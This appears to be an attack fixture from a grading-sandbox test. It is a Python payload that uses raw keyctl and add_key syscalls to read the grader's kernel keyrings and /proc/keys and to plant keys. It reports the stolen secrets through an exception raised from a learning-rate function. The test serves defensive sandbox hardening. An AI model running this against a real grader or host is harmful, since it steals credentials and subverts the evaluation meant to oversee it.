# Attack: kernel keyrings, which no namespace covers (the sandbox's uid is the grader's): read
# the grader's session keyring (the test leaves a secret there), search it by description, read
# /proc/keys, and plant keys in the session and user keyrings. Everything found is reported
# through the grade. Fault: noam_rate raises (FINDINGS {...}).
# __KEYCTL__, __ADD_KEY__ (this machine's system call numbers) and __DESCRIPTION__ are filled in.
import ctypes as _ctypes
import json as _json

_libc = _ctypes.CDLL(None, use_errno=True)
_KEYCTL, _ADD_KEY = __KEYCTL__, __ADD_KEY__  # noqa: F821 (filled in by the test)
_SESSION, _USER = -3, -4  # KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING
_found = {"calls": {}, "read": [], "proc_keys": None}


def _call(label, number, *args):
    got = _libc.syscall(number, *args)
    _found["calls"][label] = [got, _ctypes.get_errno() if got == -1 else 0]
    return got


def _read(key):
    buf = _ctypes.create_string_buffer(4096)
    n = _call(f"read {key}", _KEYCTL, 11, key, buf, 4096)  # KEYCTL_READ
    return buf.raw[: max(n, 0)] if n >= 0 else None


for _ring in (_SESSION, _USER):
    _ids = _read(_ring)  # a keyring reads as the ids of its keys
    for _i in range(0, len(_ids or b"") - 3, 4):
        _payload = _read(int.from_bytes(_ids[_i : _i + 4], "little"))
        _found["read"].append((_payload or b"").decode(errors="replace"))
_key = _call("search", _KEYCTL, 10, _SESSION, b"user", b"__DESCRIPTION__", 0)  # KEYCTL_SEARCH
if _key > 0:
    _found["read"].append((_read(_key) or b"").decode(errors="replace"))
for _ring, _name in ((_SESSION, b"xfmr-planted-session"), (_USER, b"xfmr-planted-user")):
    _call(f"add {_name.decode()}", _ADD_KEY, b"user", _name, b"planted", 7, _ring)
try:
    _found["proc_keys"] = open("/proc/keys").read()
except OSError as _e:
    _found["proc_keys"] = type(_e).__name__
_REPORT = "FINDINGS " + _json.dumps(_found, sort_keys=True)


def noam_rate(step, d_model, warmup, factor=1.0):
    raise RuntimeError(_REPORT)
